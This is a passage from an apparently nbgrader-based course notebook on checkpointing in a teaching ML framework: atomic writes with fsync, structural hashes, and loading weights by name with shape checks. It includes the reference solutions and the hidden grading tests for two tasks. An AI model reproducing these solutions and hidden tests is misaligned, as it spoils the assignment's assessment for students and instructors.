# the same folder is atomic**. Any reader, and any crash, sees either the
# old file or the new one, never a mix.
#
# So write the new file under a temporary name *in the same folder* (a
# rename across file systems is a copy, not atomic), then rename it over
# the target. One more trap: `write` only hands the bytes to the operating
# system's cache. If the *machine* goes down (power, kernel panic) the
# rename, a small metadata update, may reach the disk before the data do,
# and after the reboot the name points to an empty file. `os.fsync(fd)`
# waits until the file's bytes are on the disk; only then rename. Finally
# `fsync` the folder too, so the rename itself is durable (POSIX only:
# Windows cannot open a folder).
#
# `atomic_write(path, write)` calls `write(f)` with a binary file open on a
# temporary file `.<name>.tmp-<random>` in the folder of `path`
# (`fd, temp = _temp_file(path)`, given: it creates a new file under a random
# name, with the permissions `open()` would give), then
# `flush()` (Python's buffer to the OS), `os.fsync`, close, `os.replace` onto
# `path`, and fsync the folder (`_fsync_directory`, given). If anything
# raises — `write` itself included — remove the temporary file and let the
# exception through: the old file stays as it was. Return `path` as a
# `Path`.
#
# **Checked when graded** (besides the tests below), with the file's name
# and its old and new bytes drawn for you:
#
# * the new content is in place
# * fsync the data before the rename
# * the temporary file lives next to the target
# * fsync the folder after the rename
# * a successful write leaves no temporary file

# %%
#| export
def _fsync_directory(directory: Path) -> None:
    """Make a rename in ``directory`` durable (POSIX; Windows cannot open a folder and needs no call)."""
    if os.name != "posix":
        return
    fd = os.open(directory, os.O_RDONLY)
    try:
        os.fsync(fd)
    finally:
        os.close(fd)


def _temp_file(path: Path) -> tuple[int, Path]:
    """A new file ``.<name>.tmp-<random>`` next to ``path``, open for writing: ``(fd, temp path)``."""
    while True:
        temp = path.parent / f".{path.name}{TEMP_MARK}{secrets.token_hex(8)}"
        try:  # O_EXCL: never an existing file; mode 0o666, so the OS applies the umask as open() would
            return os.open(temp, os.O_CREAT | os.O_EXCL | os.O_WRONLY | getattr(os, "O_BINARY", 0), 0o666), temp
        except FileExistsError:
            continue


# %% [markdown]
# ### Task `checkpoints_atomic` (2 points): write, fsync, rename

# %% nbgrader={"grade": false, "grade_id": "checkpoints_atomic_code", "locked": false, "schema_version": 3, "solution": true}
#| export
def atomic_write(path: str | os.PathLike, write: Callable[[IO[bytes]], Any]) -> Path:
    """Call ``write(f)`` on a temporary file next to ``path``; fsync it, then rename it onto ``path``."""
    path = Path(path)
    if not path.parent.is_dir():
        raise FileNotFoundError(f"atomic_write: the folder of path {str(path)!r} does not exist")
    ### BEGIN SOLUTION
    fd, temp = _temp_file(path)
    try:
        with os.fdopen(fd, "wb") as f:
            write(f)
            f.flush()
            os.fsync(f.fileno())
        os.replace(temp, path)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(temp)
        raise
    _fsync_directory(path.parent)
    return path
    ### END SOLUTION


# %% nbgrader={"grade": true, "grade_id": "checkpoints_atomic", "locked": true, "points": 2, "schema_version": 3, "solution": false}
target = WORK / "atomic" / "model.bin"
target.parent.mkdir()
assert atomic_write(target, lambda f: f.write(b"old")) == target and target.read_bytes() == b"old", \
    "atomic_write returns the path, and the file holds what write() wrote"


def _dies_halfway(f):
    f.write(b"new, but only ha")
    raise KeyboardInterrupt("the user pressed Ctrl-C")


try:
    atomic_write(target, _dies_halfway)
    raise AssertionError("the exception must come through")
except KeyboardInterrupt:
    pass
assert target.read_bytes() == b"old", "a failed write leaves the old file intact"
assert sorted(p.name for p in target.parent.iterdir()) == ["model.bin"], "and no temporary file behind"
### BEGIN HIDDEN TESTS
import stat

# This student's own inputs: check_rng is seeded from the course, the student and the task.
_rs_target = target.parent / f"run-{int(check_rng.integers(100, 999))}.bin"
_rs_old, _rs_new = check_rng.bytes(int(check_rng.integers(1, 64))), check_rng.bytes(int(check_rng.integers(1, 64)))
atomic_write(_rs_target, lambda f: f.write(_rs_old))
events = []
real_fsync, real_replace = os.fsync, os.replace
os.fsync = lambda fd: (events.append(("fsync", stat.S_ISDIR(os.fstat(fd).st_mode))), real_fsync(fd))[1]
os.replace = lambda a, b: (events.append(("replace", Path(a).parent == Path(b).parent,
                                          Path(a).name.startswith(f".{Path(b).name}"))), real_replace(a, b))[1]
try:
    atomic_write(_rs_target, lambda f: f.write(_rs_new))
finally:
    os.fsync, os.replace = real_fsync, real_replace
assert _rs_target.read_bytes() == _rs_new, "the new content is in place"
kinds = [e[0] for e in events]
_rs_at = kinds.index("replace") if "replace" in kinds else len(kinds)
assert events[:_rs_at].count(("fsync", False)) >= 1, "fsync the data before the rename"
assert [e[1:] for e in events if e[0] == "replace"] == [(True, True)], "the temporary file lives next to the target"
assert ("fsync", True) in events[_rs_at:], "fsync the folder after the rename"
assert sorted(p.name for p in target.parent.iterdir()) == sorted(["model.bin", _rs_target.name]), \
    "a successful write leaves no temporary file"
### END HIDDEN TESTS

# %% [markdown]
# ## Loading into a model: by name, checked, reported
#
# A checkpoint's model tensors are stored under the model's qualified names
# (`0.weight`, `encoder.layers.1.bias`, ... — `Module.state_dict()`), in
# their own dtypes. Loading matches **by name**, never by position: a model
# whose layers were reordered, or a file from another framework with the
# same names, loads correctly or fails loudly.
#
# **Structure.** `structural_hash(model)` is a SHA-256 over the sorted
# (name, shape) pairs of the parameters and buffers and over the tree of
# module classes. Not the dtypes (a model cast to float16 still matches its
# float32 checkpoint) and not the values. It is stored in the file; loading
# compares it with the model's and, in `strict` mode, refuses a different
# structure with an error that says which names differ.
#
# **Partial loading (transfer learning).** `strict=False` loads every name
# that is in both, and reports the rest in a `LoadReport`:
# `loaded` (copied), `skipped` (in the file, not in the model), `missing`
# (in the model, not in the file). A typical use: load a pretrained body
# into a model with a new head, then freeze what was loaded
# (`report.freeze_loaded(model)`) and train only the head.
#
# **Never half-load.** A matched name whose shapes differ is an error in
# either mode — it names the key and both shapes — and every check happens
# *before* the first byte is copied.
#
# **Copy into, never replace.** The optimizer holds references to the
# parameters, and a flat optimizer (module 06) made each `p.data` a *view*
# of one big buffer. Loading must write into the existing arrays
# (`p.data[...] = values`, converted to the parameter's dtype and device);
# rebinding `p.data = values` would cut the parameter off from its
# optimizer.
#
# The state layout (given): the model's tensors under their own names; the
# optimizer's arrays (Adam's `exp_avg`, ...) under
# `optimizer.state.<index>.<key>`; everything else JSON, in
# `__metadata__["tinyflo.state"]`, with `{"__tensor__": name}` where an
# array was taken out. `capture_state` takes host copies (the next tasks
# rely on that); `write_state` writes them.

# %%
#| export
def _module_tree(model: Any) -> list[list[str]]:
    return [[name, type(m).__name__] for name, m in model.named_modules()]


def _shapes(model: Any) -> dict[str, list[int]]:
    return {name: list(t.shape) for name, t in model.state_dict().items()}


def structural_hash(model: Any) -> str:
    """SHA-256 over the sorted (name, shape) of parameters and buffers and the module class tree."""
    if not (hasattr(model, "state_dict") and hasattr(model, "named_modules")):
        raise TypeError(f"structural_hash: model must be a Module; got {described(model)}")
    text = json.dumps({"tensors": sorted(_shapes(model).items()), "modules": _module_tree(model)},
                      separators=(",", ":"))
    return hashlib.sha256(text.encode()).hexdigest()


def _few(names: Any, limit: int = 5) -> str:
    """The first few of ``names``, for an error message."""
    names = list(names)
    return "none" if not names else ", ".join(map(str, names[:limit])) + (f", ... ({len(names)} in all)" if len(names) > limit else "")


def _encode(value: Any, name: str, tensors: dict[str, np.ndarray]) -> Any:
    """``value`` as JSON data; its arrays (host copies) go into ``tensors`` under dotted names."""
    if isinstance(value, Tensor):
        value = value.data
    if is_array(value):
        if name in tensors:
            raise ValueError(f"checkpoint: two tensors would be named {name!r} (does the model have a sub-module "
                             "named 'optimizer', 'scheduler', 'rng', 'loader', 'trainer', 'scaler' or 'extra'?)")
        host = to_host(value, copy=True)  # a host copy, never a view
        tensors[name] = host if isinstance(host, np.ndarray) and host is not value else np.array(host)
        return {"__tensor__": name}
    if isinstance(value, dict):
        encoded = {str(k): _encode(v, f"{name}.{k}", tensors) for k, v in value.items()}
        # user data that looks like one of our markers is wrapped, so that it comes back as data
        return {"__data__": encoded} if set(encoded) in ({"__tensor__"}, {"__data__"}) else encoded
    if isinstance(value, list | tuple):
        return [_encode(v, f"{name}.{i}", tensors) for i, v in enumerate(value)]
    if isinstance(value, np.generic):
        return value.item()
    if value is None or isinstance(value, bool | int | float | str):
        return value
    raise TypeError(f"checkpoint: {name} has type {type(value).__name__}, which is neither an array nor JSON data")


def _decode(value: Any, tensors: Mapping[str, np.ndarray], where: str) -> Any:
    """The inverse of ``_encode``: arrays put back from ``tensors``."""
    if isinstance(value, dict):
        if set(value) == {"__data__"} and isinstance(value["__data__"], dict):
            return {k: _decode(v, tensors, where) for k, v in value["__data__"].items()}
        if set(value) == {"__tensor__"}:
            if not isinstance(value["__tensor__"], str) or value["__tensor__"] not in tensors:
                raise CheckpointError(f"{where}: the state refers to tensor {value['__tensor__']!r}, which the file lacks")
            return tensors[value["__tensor__"]]
        return {k: _decode(v, tensors, where) for k, v in value.items()}
    if isinstance(value, list):
        return [_decode(v, tensors, where) for v in value]
    return value


class CheckpointState(NamedTuple):
    """A training state in host memory: tensors by name, and JSON data (what a checkpoint file holds)."""

    tensors: dict[str, np.ndarray]
    state: dict[str, Any]

    @property
    def nbytes(self) -> int:
        """The bytes of all tensors."""
        return sum(a.nbytes for a in self.tensors.values())


def write_state(path: str | os.PathLike, snapshot: CheckpointState) -> Path:
    """Write a CheckpointState to ``path`` atomically, with format version, structure hash and checksum."""
    metadata = {FORMAT_KEY: FORMAT_VERSION, STATE_KEY: json.dumps(snapshot.state)}
    if "model" in snapshot.state:
        metadata[STRUCTURE_KEY] = snapshot.state["model"]["hash"]
    return save_file(path, snapshot.tensors, metadata)


@dataclasses.dataclass(frozen=True)
class LoadReport:
    """What a load did: ``loaded`` (copied), ``skipped`` (file only), ``missing`` (model only), checksum checked."""

    loaded: tuple[str, ...]
    skipped: tuple[str, ...]
    missing: tuple[str, ...]
    verified: bool = True

    def __repr__(self) -> str:
        def names(items: tuple[str, ...]) -> str:
            shown = ", ".join(items[:5]) + (", ..." if len(items) > 5 else "")
            return f"{len(items)}" + (f" [{shown}]" if items else "")

        check = "checksum verified" if self.verified else "no checksum in the file: integrity not checked"
        return f"LoadReport(loaded={names(self.loaded)}, skipped={names(self.skipped)}, missing={names(self.missing)}; {check})"

    def freeze_loaded(self, model: Any) -> Any:
        """Freeze every parameter that was loaded (transfer learning: train only the rest)."""
        for name, p in model.named_parameters():
            if name in self.loaded:
                p.freeze()
        return model


def _assign(target: Tensor, values: np.ndarray) -> None:
    """Copy host ``values`` into ``target``'s existing array, on its device, in its dtype."""
    device = target.device
    with device:
        target.data[...] = device.xp.asarray(values).astype(target.dtype, copy=False)


# %% [markdown]
# ### Task `checkpoints_load` (3 points): plan a load by name, checked before anything is copied
#
# `_plan_model_load(model, tensors, state, strict, where)` decides, without
# copying anything, what a load will do; it returns
# `(pairs, LoadReport)` where `pairs` lists `(target tensor, values)`:
#
# 1. The file's model names: `state["model"]["keys"]` when the file is
#    ours; all its tensors when it is another framework's (no
#    `"model"` in the state).
# 2. `loaded` = names in both (in the model's order), `skipped` = in the
#    file only, `missing` = in the model only.
# 3. A loaded name whose shapes differ: `ShapeError` naming the key and
#    both shapes (`... has shape (3, 4) in the file and (4, 4) in the
#    model`), in both modes.
# 4. `strict=True`: the structure must match — the stored hash equals
#    `structural_hash(model)` (a file without one: nothing skipped and
#    nothing missing). Otherwise a `CheckpointError` that lists the names
#    only in the file and only in the model (or says the module classes
#    differ, when the names agree) and suggests `strict=False`.
#
# **Checked when graded** (besides the tests below), on models whose layer
# sizes, seeds and file values are drawn for you:
#
# * a different structure must raise in strict mode
# * the structure error lists the names only in the model and suggests strict=False
# * strict=False loads the names in both
# * missing: the names only in the model
# * nothing skipped when the file's names are all in the model
# * strict=False copies what it loads
# * skipped: the names only in the file
# * the first layer loads, nothing is missing
# * freeze_loaded freezes what was loaded
# * the same names with other module classes is another structure
# * the error says the module classes differ
# * the dtype is not part of the structure; values are converted
# * the converted values are the file's
# * a file from another framework (no tinyflo state) loads by its tensor names
# * a file from another framework is not verified: it has no checksum
# * its values are the file's
# * a transposed tensor must not load into a weight, though their sizes agree: expected a ShapeError
#
# `load_checkpoint` (given, after the grade cell) decodes the state once,
# calls it, checks the optimizer (module 06's `validate_state_dict`, the
# very checks `load_state_dict` makes), the scheduler and, for a trainer,
# the GradScaler, the data loader (batch size, samples) and the random
# generators — and only then copies, with `_assign`, which writes into the
# existing arrays.

# %% nbgrader={"grade": false, "grade_id": "checkpoints_load_code", "locked": false, "schema_version": 3, "solution": true}
#| export
def _plan_model_load(model: Any, tensors: Mapping[str, np.ndarray], state: Mapping[str, Any], strict: bool,
                     where: str) -> tuple[list[tuple[Tensor, np.ndarray]], LoadReport]:
    """(target, values) pairs and the LoadReport of loading ``tensors`` into ``model``; nothing copied yet."""
    ### BEGIN SOLUTION
    own = model.state_dict()
    ours = "model" in state
    names = list(state["model"]["keys"]) if ours else list(tensors)
    loaded = [k for k in own if k in names]
    skipped = [k for k in names if k not in own]
    missing = [k for k in own if k not in names]
    for key in loaded:
        if tuple(tensors[key].shape) != own[key].shape:
            raise ShapeError(f"load_checkpoint: {key!r} has shape {tuple(tensors[key].shape)} in the file {where} "
                             f"and {own[key].shape} in the model")
    if strict:
        same = state["model"]["hash"] == structural_hash(model) if ours else not skipped and not missing
        if not same:
            if skipped or missing:
                detail = f"only in the file: {_few(skipped)}; only in the model: {_few(missing)}"
            else:
                theirs = {name: cls for name, cls in state["model"].get("modules", [])}
                differ = [f"{name or '(root)'}: {theirs.get(name)} in the file, {cls} in the model"
                          for name, cls in _module_tree(model) if theirs.get(name) != cls]
                detail = (f"the module classes differ at {_few(differ, 3)}" if differ
                          else "the same names and module classes, in another order")
            raise CheckpointError(f"load_checkpoint: the model's structure does not match {where} ({detail}); "
                                  "pass strict=False to load the names that match and report the rest")
    pairs = [(own[key], tensors[key]) for key in loaded]
    return pairs, LoadReport(tuple(loaded), tuple(skipped), tuple(missing))
    ### END SOLUTION


# %% [markdown]
# The rest of saving and loading is given: `capture_state` gathers host
# copies of the model, optimizer and scheduler (and, for a trainer, the
# things of the next task), `save_checkpoint` writes them, `load_checkpoint`
# reads, checks everything, then copies. `load_checkpoint(..., device="cuda:0")`
# moves the model there once every check has passed (build a flat optimizer
# only after that).

# %%
#| export
def _model_state(model: Any, tensors: dict[str, np.ndarray]) -> dict[str, Any]:
    for name, t in model.state_dict().items():
        tensors[name] = to_host(t.data, copy=True)
    return {"keys": list(tensors), "hash": structural_hash(model), "modules": _module_tree(model)}


def capture_state(model: Any = None, optimizer: Any = None, scheduler: Any = None, trainer: Any = None,
                  extra: Mapping[str, Any] | None = None, rng: bool | None = None) -> CheckpointState:
    """Host copies of everything to save: model, optimizer, scheduler; with a trainer, the full training state."""
    if trainer is not None:
        model = trainer.model if model is None else model
        optimizer = trainer.optimizer if optimizer is None else optimizer
        scheduler = trainer.scheduler if scheduler is None else scheduler
    tensors: dict[str, np.ndarray] = {}
    state: dict[str, Any] = {"format": FORMAT_VERSION}
    if model is not None:
        state["model"] = _model_state(model, tensors)
    for key, part in (("optimizer", optimizer), ("scheduler", scheduler)):
        if part is not None and hasattr(part, "state_dict"):
            state[key] = _encode(part.state_dict(), key, tensors)
    if trainer is not None:
        state.update(_training_state(trainer, tensors))
    if rng or (rng is None and trainer is not None):
        state["rng"] = _encode(get_rng_state(), "rng", tensors)
    if extra:
        state["extra"] = _encode(dict(extra), "extra", tensors)
    return CheckpointState(tensors, state)


def checkpoint_path(path: Any, owner: str, writing: bool) -> Path:
    """``path`` as a Path, or one line saying why a checkpoint cannot be written there (or read from there)."""
    if isinstance(path, bytes) or not isinstance(path, str | os.PathLike):
        hint = f" (the path comes first: {owner}(path, model, ...))" if hasattr(path, "state_dict") else ""
        raise TypeError(f"{owner}: path must be a file's path (a str or os.PathLike); got {type(path).__name__}{hint}")
    if not str(path):
        raise ValueError(f"{owner}: path is empty; expected a file's path, e.g. 'model.safetensors'")
    file = Path(path)
    if file.is_dir():
        raise IsADirectoryError(f"{owner}: path {str(path)!r} is a folder; expected a file's path, "
                                f"e.g. {str(file / 'model.safetensors')!r}")
    if writing and not file.parent.is_dir():
        raise FileNotFoundError(f"{owner}: path {str(path)!r}: its folder {str(file.parent)!r} does not exist; make it first")
    if not writing and not file.is_file():
        raise FileNotFoundError(f"{owner}: path {str(path)!r} does not exist")
    return file


def save_checkpoint(path: str | os.PathLike, model: Any = None, optimizer: Any = None, scheduler: Any = None, *,
                    trainer: Any = None, extra: Mapping[str, Any] | None = None, rng: bool | None = None) -> Path:
    """Save a model (and optimizer, scheduler; or a Trainer's complete state) to one safetensors file."""
    checkpoint_path(path, "save_checkpoint", writing=True)
    if model is None and trainer is None:
        raise ValueError("save_checkpoint: pass a model (or trainer=) to save")
    if model is not None and not hasattr(model, "state_dict"):
        raise TypeError(f"save_checkpoint: model must be a Module (it has state_dict()); got {type(model).__name__}")
    if extra is not None and not isinstance(extra, Mapping):
        raise TypeError(f"save_checkpoint: extra must be a dict of names to values; got {described(extra)}")
    if rng is not None and not isinstance(rng, bool):
        raise TypeError(f"save_checkpoint: rng must be True, False or None (saved with a trainer); "
                        f"got {described(rng)}")
    snapshot = capture_state(model, optimizer, scheduler, trainer, extra, rng)
    try:
        return write_state(path, snapshot)
    except OSError as err:  # a folder the user may not write in, a full disk: the OS's reason, after ours
        raise type(err)(f"save_checkpoint: path {str(path)!r} cannot be written: "
                        f"{err.strerror or err}") from None


def read_checkpoint(path: str | os.PathLike, verify: bool = True) -> tuple[dict[str, np.ndarray], dict[str, Any], bool]:
    """``(tensors, state, verified)`` of a checkpoint file (ours or any plain safetensors file)."""
    path = checkpoint_path(path, "load_checkpoint", writing=False)
    try:
        tensors, metadata = load_file(path, verify)
    except CheckpointError as err:  # load_file names the file; say who read it, and which argument it was
        reason = str(err).removeprefix(f"{path}: ")
        raise CheckpointError(f"load_checkpoint: path {str(path)!r}: {reason}") from None
    except OSError as err:
        raise type(err)(f"load_checkpoint: path {str(path)!r} cannot be read: {err.strerror or err}") from None
    version = metadata.get(FORMAT_KEY)
    if version is not None and version != FORMAT_VERSION:
        raise CheckpointError(f"{path}: format version {version!r}; this tinyflo reads version {FORMAT_VERSION!r}")
    try:
        state = json.loads(metadata.get(STATE_KEY, "{}"))
    except (ValueError, RecursionError) as err:
        raise CheckpointError(f"{path}: the {STATE_KEY} metadata is not valid JSON ({str(err):.100})") from None
    _check_state(state, tensors, str(path))
    return tensors, state, verify and CHECKSUM_KEY in metadata


def _check_state(state: Any, tensors: Mapping[str, np.ndarray], where: str) -> None:
    """The layout of a ``tinyflo.state`` (what the loaders read from it), or a CheckpointError naming the part."""
    def bad(part: str, expected: str) -> CheckpointError:
        return CheckpointError(f"{where}: the {STATE_KEY} metadata is damaged: {part} must be {expected}")

    if not isinstance(state, dict):
        raise bad("the state", "a JSON object")
    model = state.get("model")
    if model is not None:
        if not isinstance(model, dict) or not isinstance(model.get("hash"), str):
            raise bad("'model'", "an object with 'keys', 'hash' and 'modules'")
        keys, modules = model.get("keys"), model.get("modules", [])
        if not isinstance(keys, list) or not all(isinstance(k, str) and k in tensors for k in keys):
            raise bad("'model.keys'", "a list of the names of tensors in the file")
        if not isinstance(modules, list) or not all(
                isinstance(m, list) and len(m) == 2 and all(isinstance(x, str) for x in m) for m in modules):
            raise bad("'model.modules'", "a list of [name, class] pairs")
    for key in ("optimizer", "scheduler", "trainer", "rng", "extra"):
        if state.get(key) is not None and not isinstance(state[key], dict):
            raise bad(repr(key), "an object")
    for key in ("loader", "scaler"):
        if state.get(key) is not None and not isinstance(state[key], dict):
            raise bad(repr(key), "an object or null")
    trainer = state.get("trainer")
    if trainer is not None and not (isinstance(trainer.get("step"), int) and isinstance(trainer.get("epoch"), int)
                                    and isinstance(trainer.get("history"), dict)):
        raise bad("'trainer'", "an object with 'step', 'epoch' (integers) and 'history'")
    totals = trainer.get("epoch_totals") if trainer is not None else None
    if totals is not None and not (isinstance(totals, dict) and isinstance(totals.get("total"), int | float)
                                   and totals.get("dtype") in ("float16", "float32", "float64")
                                   and all(isinstance(totals.get(k), int) for k in ("samples", "batches"))):
        raise bad("'trainer.epoch_totals'", "an object with 'total', 'dtype', 'samples' and 'batches'")
    rng = state.get("rng")
    if rng is not None and not (isinstance(rng.get("tinyflo"), dict) and isinstance(rng.get("numpy"), dict)):
        raise bad("'rng'", "an object with 'tinyflo' and 'numpy' generator states")


_BIT_GENERATORS = ("PCG64", "PCG64DXSM", "MT19937", "Philox", "SFC64")


def _bit_generator(state: Any, where: str = "load_checkpoint") -> np.random.BitGenerator:
    """A new NumPy bit generator of the kind ``state`` (a ``bit_generator.state`` dict) names."""
    name = state.get("bit_generator") if isinstance(state, dict) else None
    if name not in _BIT_GENERATORS:
        raise CheckpointError(f"{where}: a random generator state names bit generator {name!r:.60}; "
                              f"expected one of {', '.join(_BIT_GENERATORS)}")
    return getattr(np.random, name)()


def _check_generator(state: Any, where: str) -> None:
    """A generator state that a bit generator of its kind accepts (tried on a new one, not the live one)."""
    generator = _bit_generator(state, where)
    try:
        generator.state = state
    except (ValueError, TypeError, KeyError) as err:
        raise CheckpointError(f"{where}: a random generator state is damaged ({str(err):.100})") from None


def _check_training_state(trainer: Any, state: Mapping[str, Any], loader: Any, where: str) -> None:
    """What ``_restore_training_state`` needs, checked before anything is copied."""
    if state.get("scaler") is not None and getattr(trainer, "scaler", None) is None:
        raise CheckpointError(f"load_checkpoint: {where} holds a GradScaler's state but the trainer has no scaler; "
                              "build the Trainer with amp='float16' (its precision plug-in keeps a GradScaler) before loading")
    if state.get("rng") is not None:
        _check_generator(state["rng"]["tinyflo"], where)
        legacy = state["rng"]["numpy"]
        if legacy.get("bit_generator") != "MT19937" or not isinstance(legacy.get("state"), dict) \
                or np.shape(legacy["state"].get("key")) != (624,):
            raise CheckpointError(f"{where}: NumPy's global generator state is damaged; expected MT19937 with 624 words")
    saved = state.get("loader")
    if saved is None:
        return
    if not isinstance(saved.get("rng"), dict) or not isinstance(saved["rng"].get("bit_generator"), dict):
        raise CheckpointError(f"{where}: the data loader's state is damaged: it has no random generator state")
    _check_generator(saved["rng"]["bit_generator"], where)
    if loader is not None and hasattr(loader, "batch_size") and hasattr(loader, "dataset"):
        for key, mine in (("batch_size", loader.batch_size), ("samples", len(loader.dataset))):
            if saved.get(key) != mine:
                raise CheckpointError(f"load_checkpoint: the data loader in {where} was saved with {key}="
                                      f"{saved.get(key)!r}; train_loader has {key}={mine}: the batches would not line up")


def load_checkpoint(path: str | os.PathLike, model: Any = None, optimizer: Any = None, scheduler: Any = None,
                    strict: bool = True, device: Any = None, *, trainer: Any = None, train_loader: Any = None,
                    verify: bool = True) -> LoadReport:
    """Load a checkpoint into a model (and optimizer, scheduler; or a Trainer); checked first, then copied."""
    if trainer is not None:
        model = trainer.model if model is None else model
        optimizer = trainer.optimizer if optimizer is None else optimizer
        scheduler = trainer.scheduler if scheduler is None else scheduler
    if model is None:
        raise ValueError("load_checkpoint: pass a model (or trainer=) to load into")
    if not isinstance(strict, bool):
        raise TypeError(f"load_checkpoint: strict must be True or False; got {described(strict)}")
    checkpoint_path(path, "load_checkpoint", writing=False)
    if not hasattr(model, "load_state_dict"):
        raise TypeError(f"load_checkpoint: model must be a Module (it has load_state_dict()); got {type(model).__name__}")
    where = str(path)
    tensors, raw, verified = read_checkpoint(path, verify)
    if trainer is not None and "trainer" not in raw:
        raise CheckpointError(f"load_checkpoint: trainer= was given but {where} holds no training state "
                              "(it was saved from a model alone)")
    state = _decode(raw, tensors, where)  # once: every check below and every copy use this
    pairs, report = _plan_model_load(model, tensors, raw, strict, where)
    parts = {}
    for key, part in (("optimizer", optimizer), ("scheduler", scheduler)):
        if part is None or not hasattr(part, "load_state_dict"):
            continue
        if key not in state:
            raise CheckpointError(f"load_checkpoint: {key}= was given but {where} holds no {key} state")
        parts[key] = state[key]
    if "optimizer" in parts:
        try:
            optimizer.validate_state_dict(parts["optimizer"])
        except (ValueError, TypeError, KeyError) as err:
            raise CheckpointError(f"load_checkpoint: the optimizer state in {where} does not fit optimizer=: {err}") from None
    if "scheduler" in parts and parts["scheduler"].get("type") != type(scheduler).__name__:
        raise CheckpointError(f"load_checkpoint: {where} holds the state of a {parts['scheduler'].get('type')}; "
                              f"scheduler= is a {type(scheduler).__name__}")
    if trainer is not None:
        loader = train_loader if train_loader is not None else getattr(trainer, "train_loader", None)
        _check_training_state(trainer, state, loader, where)
    if device is not None:  # only now: a file that fails a check leaves the model where it was
        model.to(as_device(device))
        pairs, _ = _plan_model_load(model, tensors, raw, strict, where)  # the moved arrays
    with no_grad():
        for target, values in pairs:
            _assign(target, values)
    if "optimizer" in parts:
        optimizer.load_state_dict(parts["optimizer"])
    if "scheduler" in parts:
        scheduler.load_state_dict(parts["scheduler"])
    if trainer is not None:
        _restore_training_state(trainer, state, train_loader)
    return dataclasses.replace(report, verified=verified)


# %% nbgrader={"grade": true, "grade_id": "checkpoints_load", "locked": true, "points": 3, "schema_version": 3, "solution": false}
def _net(seed, head=3):
    tinyflo.manual_seed(seed)
    return Sequential(Linear(4, 8), ReLU(), Linear(8, head))


source = _net(0)
path = save_checkpoint(WORK / "net.safetensors", source)
same = _net(1)
weight_array = same[0].weight.data
report = load_checkpoint(path, same)
assert isinstance(report, LoadReport) and report.loaded == ("0.weight", "0.bias", "2.weight", "2.bias"), \
    "loaded: every name in both, in the model's order"
assert report.skipped == () and report.missing == () and report.verified, "nothing skipped, nothing missing"
assert all(np.array_equal(a.numpy(), b.numpy()) for a, b in zip(source.parameters(), same.parameters())), \
    "the values are the saved model's"
assert same[0].weight.data is weight_array, "copied into the parameter's own array"
other = _net(2, head=5)
try:
    load_checkpoint(path, other, strict=False)
    raise AssertionError("a shape mismatch must raise")
except ShapeError as err:
    assert "2.weight" in str(err) and "(3, 8)" in str(err) and "(5, 8)" in str(err), \
        f"the ShapeError names the key and both shapes; got {err}"
assert not np.array_equal(other[0].weight.numpy(), source[0].weight.numpy()), "nothing copied on an error"
### BEGIN HIDDEN TESTS
# This student's own models: layer sizes drawn distinct (so a transposed weight never fits), seeds and
# the values of a file from another framework.
_i, _h, _o, _x = (int(v) for v in check_rng.choice(np.arange(2, 10), size=4, replace=False))
_seed = int(check_rng.integers(0, 1000))


def _layers(seed, *sizes, between=ReLU):
    tinyflo.manual_seed(seed)
    parts = []
    for a, b in zip(sizes, sizes[1:]):
        parts += [Linear(a, b), between()]
    return Sequential(*parts[:-1])


_source = _layers(_seed, _i, _h, _o)
_path = save_checkpoint(WORK / "drawn.safetensors", _source)
bigger = _layers(_seed + 1, _i, _h, _o, _x)
try:
    load_checkpoint(_path, bigger)
    raise AssertionError("a different structure must raise in strict mode")
except CheckpointError as err:
    _said = str(err)
assert "4.weight" in _said and "strict=False" in _said, \
    "the structure error lists the names only in the model and suggests strict=False"
partial = load_checkpoint(_path, bigger, strict=False)
assert partial.loaded == ("0.weight", "0.bias", "2.weight", "2.bias"), "strict=False loads the names in both"
assert partial.missing == ("4.weight", "4.bias"), "missing: the names only in the model"
assert partial.skipped == (), "nothing skipped when the file's names are all in the model"
assert np.array_equal(bigger[2].weight.numpy(), _source[2].weight.numpy()), "strict=False copies what it loads"
smaller = _layers(_seed + 2, _i, _h)
cut = load_checkpoint(_path, smaller, strict=False)
assert cut.skipped == ("2.weight", "2.bias"), "skipped: the names only in the file"
assert cut.loaded == ("0.weight", "0.bias") and cut.missing == (), "the first layer loads, nothing is missing"
cut.freeze_loaded(smaller)
assert [p.requires_grad for p in smaller.parameters()] == [False, False], "freeze_loaded freezes what was loaded"
swapped = _layers(_seed + 3, _i, _h, _o, between=lambda: Dropout(0.1))
try:
    load_checkpoint(_path, swapped)
    raise AssertionError("the same names with other module classes is another structure")
except CheckpointError as err:
    _said = str(err)
assert "class" in _said, "the error says the module classes differ"
half = _layers(_seed + 4, _i, _h, _o).to(dtype="float16")
load_checkpoint(_path, half)
assert half[0].weight.dtype == np.float16, "the dtype is not part of the structure; values are converted"
assert np.allclose(half[0].weight.numpy(), _source[0].weight.numpy(), atol=1e-2), "the converted values are the file's"
_values = check_rng.standard_normal((_h, _i)).astype(np.float32)
plain = WORK / "plain.safetensors"
with open(plain, "wb") as f:
    write_safetensors(f, {"0.weight": _values, "0.bias": np.zeros(_h, np.float32)}, checksum=False)
_foreign = Sequential(Linear(_i, _h))
foreign_report = load_checkpoint(plain, _foreign)
assert foreign_report.loaded == ("0.weight", "0.bias"), \
    "a file from another framework (no tinyflo state) loads by its tensor names"
assert not foreign_report.verified, "a file from another framework is not verified: it has no checksum"
assert np.array_equal(_foreign[0].weight.numpy(), _values), "its values are the file's"
transposed = WORK / "transposed.safetensors"
with open(transposed, "wb") as f:
    write_safetensors(f, {"0.weight": _values.T.copy(), "0.bias": np.zeros(_h, np.float32)})
try:
    load_checkpoint(transposed, Sequential(Linear(_i, _h)), strict=False)
    raise AssertionError("a transposed tensor must not load into a weight, though their sizes agree: "
                         "expected a ShapeError")
except ShapeError:
    pass
### END HIDDEN TESTS

# %% [markdown]
# ## Exact resume: the complete training state
#
# "Resume" is exact when training N steps, saving, loading into a *fresh
# process* and training M more gives the very same weights, bit for bit, as
# N + M steps without a stop. Everything that influences a future step must
# be in the file:
#
# * the parameters and buffers (batch norm's running statistics);
# * the optimizer's state (Adam's two moments and step count) and its
#   hyper-parameters — for Adam the checkpoint is **3× the model**;
# * the schedule (its settings) and the counters it is driven by
#   (`trainer.step`, `trainer.epoch`) plus the history — and, for a save in
#   the middle of an epoch, the epoch's running loss total and sample count
#   (part of `trainer.state_dict()`, module 08): a `ReduceLROnPlateau` on
#   the training loss, `EarlyStopping` or `keep_best` read the epoch's mean;
# * **every random generator**: tinyflo's (dropout, `randn`), NumPy's global
#   one (user code may draw from it), CuPy's on a GPU, and the data loader's
